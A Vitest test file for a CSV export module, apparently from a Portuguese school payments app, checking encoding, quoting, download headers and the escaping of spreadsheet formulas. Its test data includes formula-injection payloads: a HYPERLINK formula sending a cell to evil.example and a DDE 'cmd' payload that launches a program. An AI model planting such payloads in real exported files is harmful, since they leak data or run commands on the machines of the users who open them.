import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvAmount, csvResponse, csvText, INTERNAL_DOCUMENT_NOTICE } from "@/server/csv/csv-response";

describe("CSV exports", () => {
  it("write UTF-8 with a BOM, ';' separated, quoting what needs it, with the internal-document notice first", () => {
    const text = csvText(["Aluno", "Valor"], [["Sá; \"Zé\"", "1234,50"], ["Ana", null]]);
    expect(text.startsWith("\uFEFF")).toBe(true);
    expect(text).toContain("\r\n");
    const rows = parse(text.slice(1), { delimiter: ";", relax_column_count: true });
    expect(rows).toEqual([[INTERNAL_DOCUMENT_NOTICE], ["Aluno", "Valor"], ["Sá; \"Zé\"", "1234,50"], ["Ana", ""]]);
  });

  it("write text that a spreadsheet would run as a formula as text, with a leading ' (OWASP)", () => {
    const hyperlink = '=HYPERLINK("https://evil.example/?x="&B3,"Ver")';
    const text = csvText(["Aluno", "Nota"], [[hyperlink, "+351 912 345 678"], ["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"], ["\tTab", "\rRetorno"]]);
    const rows = parse(text.slice(1), { delimiter: ";", relax_column_count: true, relax_quotes: true });
    expect(rows.slice(2)).toEqual([
      [`'${hyperlink}`, "'+351 912 345 678"],
      ["'-2+3+cmd|' /C calc'!A0", "'@SUM(1+1)"],
      ["'\tTab", "'\rRetorno"],
    ]);
  });

  it("leave ordinary text, the numbers and the amounts ACE writes as they are, negative ones included", () => {
    const text = csvText(["Aluno", "Aulas", "Valor (€)"], [["Ana = Sá", -3, csvAmount(-12.5)], ["Rui", 4, csvAmount(1234.5)]]);
    const rows = parse(text.slice(1), { delimiter: ";", relax_column_count: true });
    expect(rows.slice(2)).toEqual([
      ["Ana = Sá", "-3", "-12,50"],
      ["Rui", "4", "1234,50"],
    ]);
  });

  it("answer as a download", async () => {
    const response = csvResponse("pagamentos-2026-12", ["A"], [[1]]);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="pagamentos-2026-12.csv"');
    expect(new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer()).charCodeAt(0)).toBe(0xfeff);
  });
});
